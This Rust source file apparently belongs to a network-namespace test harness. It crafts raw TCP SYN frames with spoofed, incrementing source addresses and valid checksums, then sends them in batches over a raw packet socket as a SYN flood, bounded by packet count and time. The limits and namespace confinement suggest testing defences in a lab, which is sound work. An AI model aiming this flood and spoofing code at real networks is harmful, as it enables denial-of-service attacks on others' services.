//! A SYN flood: connection attempts from addresses that nobody has, straight onto the link of a namespace.
//! Bounded in number and in time. Promises that every packet is whole, so that only its sender is a lie.

use std::{
    io::IoSlice,
    net::{Ipv4Addr, SocketAddrV4},
    os::fd::{AsRawFd as _, OwnedFd},
    time::{Duration, Instant},
};

use anyhow::{Context as _, Result, ensure};
use nix::{
    errno::Errno,
    net::if_::if_nametoindex,
    sys::socket::{
        AddressFamily, MsgFlags, MultiHeaders, SockFlag, SockType, SockaddrLike as _, SockaddrStorage, sendmmsg, socket,
    },
};

use crate::netns::Namespace;

const LINK: &str = "eth0";
const ETHERNET: usize = 14;
const IP: usize = 20;
const FRAME: usize = ETHERNET + IP + 24;
/// Packets a system call.
const BATCH: u32 = 256;

/// To whom, and from where: addresses from `first` on, a new one for each packet.
#[derive(Debug, Clone, Copy)]
pub struct Flood {
    pub to: SocketAddrV4,
    pub first: Ipv4Addr,
    pub packets: u32,
    /// It ends then, however many were sent.
    pub limit: Duration,
}

/// How it went.
#[derive(Debug, Clone, Copy)]
pub struct Flooded {
    pub packets: u32,
    pub took: Duration,
}

impl Flood {
    /// Sends all of it from `source` over its link to `next`, which has the address `via` there, as fast as the
    /// kernel takes it. Blocks until it is over.
    pub fn pour(&self, source: &Namespace, next: &Namespace, via: &str) -> Result<Flooded> {
        let (from_mac, to_mac) = (mac(source, LINK)?, mac(next, via)?);
        source.enter(|| {
            let socket = packet_socket()?;
            let (start, mut sent) = (Instant::now(), 0);
            while sent < self.packets && start.elapsed() < self.limit {
                let count = BATCH.min(self.packets - sent);
                let frames: Vec<_> = (sent..sent + count).map(|number| self.frame(number, from_mac, to_mac)).collect();
                sent += send(&socket, &frames)?;
            }
            Ok(Flooded { packets: sent, took: start.elapsed() })
        })?
    }

    fn frame(&self, number: u32, from_mac: [u8; 6], to_mac: [u8; 6]) -> [u8; FRAME] {
        let (source, to) = (Ipv4Addr::from(u32::from(self.first) + number), self.to);
        let mut ip = [0; IP];
        ip[..10].copy_from_slice(&[0x45, 0, 0, (FRAME - ETHERNET) as u8, 0, 0, 0x40, 0, 64, 6]);
        ip[12..16].copy_from_slice(&source.octets());
        ip[16..].copy_from_slice(&to.ip().octets());
        let checksum = checksum(&[&ip]);
        ip[10..12].copy_from_slice(&checksum);
        let mut tcp = [0; FRAME - ETHERNET - IP];
        tcp[..2].copy_from_slice(&(1024 + (number % 50_000) as u16).to_be_bytes());
        tcp[2..4].copy_from_slice(&to.port().to_be_bytes());
        tcp[4..8].copy_from_slice(&number.wrapping_mul(0x9e37_79b9).to_be_bytes());
        // Six words long, a SYN, a window; and an MSS of 1460.
        tcp[12..16].copy_from_slice(&[0x60, 2, 0xff, 0xff]);
        tcp[20..].copy_from_slice(&[2, 4, 5, 180]);
        let pseudo = [0, 6, 0, tcp.len() as u8];
        let checksum = self::checksum(&[&ip[12..], &pseudo, &tcp]);
        tcp[16..18].copy_from_slice(&checksum);
        let mut frame = [0; FRAME];
        let parts: [&[u8]; 5] = [&to_mac, &from_mac, &[8, 0], &ip, &tcp];
        frame.copy_from_slice(&parts.concat());
        frame
    }
}

/// RFC 1071. The parts are of even length.
fn checksum(parts: &[&[u8]]) -> [u8; 2] {
    let words = parts.iter().flat_map(|part| part.chunks(2));
    let mut sum: u32 = words.map(|word| u32::from(word[0]) << 8 | u32::from(word[1])).sum();
    while sum > 0xffff {
        sum = (sum >> 16) + (sum & 0xffff);
    }
    (!(sum as u16)).to_be_bytes()
}

fn mac(at: &Namespace, link: &str) -> Result<[u8; 6]> {
    let shown = at.run("ip", &["-oneline", "link", "show", "dev", link])?;
    let mut words = shown.split_whitespace().skip_while(|word| *word != "link/ether").skip(1);
    let bytes: Vec<u8> = words
        .next()
        .with_context(|| format!("no address in {shown}"))?
        .split(':')
        .map(|byte| u8::from_str_radix(byte, 16).context("a link address"))
        .collect::<Result<_>>()?;
    bytes.try_into().ok().with_context(|| format!("a strange address in {shown}"))
}

/// Whole frames go out of it, over [`LINK`]; none come in.
fn packet_socket() -> Result<OwnedFd> {
    let fd = socket(AddressFamily::Packet, SockType::Raw, SockFlag::SOCK_CLOEXEC, None).context("a packet socket")?;
    let index = if_nametoindex(LINK).with_context(|| format!("no {LINK}"))?;
    // SAFETY: plain bytes, of which all being zero is a value.
    let mut address: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    (address.sll_family, address.sll_ifindex) = (libc::AF_PACKET as u16, index as i32);
    let length = size_of_val(&address) as u32;
    // SAFETY: a whole sockaddr_ll, whose family says so.
    let address = unsafe { SockaddrStorage::from_raw((&raw const address).cast(), Some(length)) };
    nix::sys::socket::bind(fd.as_raw_fd(), &address.context("an address")?).context("bind")?;
    Ok(fd)
}

/// How many of them the kernel took: a queue that is full takes fewer.
fn send(socket: &OwnedFd, frames: &[[u8; FRAME]]) -> Result<u32> {
    let slices: Vec<_> = frames.iter().map(|frame| [IoSlice::new(frame)]).collect();
    let nobody: Vec<Option<SockaddrStorage>> = vec![None; frames.len()];
    let mut headers = MultiHeaders::preallocate(frames.len(), None);
    match sendmmsg(socket.as_raw_fd(), &mut headers, &slices, &nobody, [], MsgFlags::empty()) {
        Ok(sent) => {
            let count = sent.count();
            ensure!(count > 0, "the kernel takes no packet");
            Ok(count as u32)
        }
        Err(Errno::ENOBUFS | Errno::EINTR) => Ok(0),
        Err(error) => Err(error).context("sendmmsg"),
    }
}
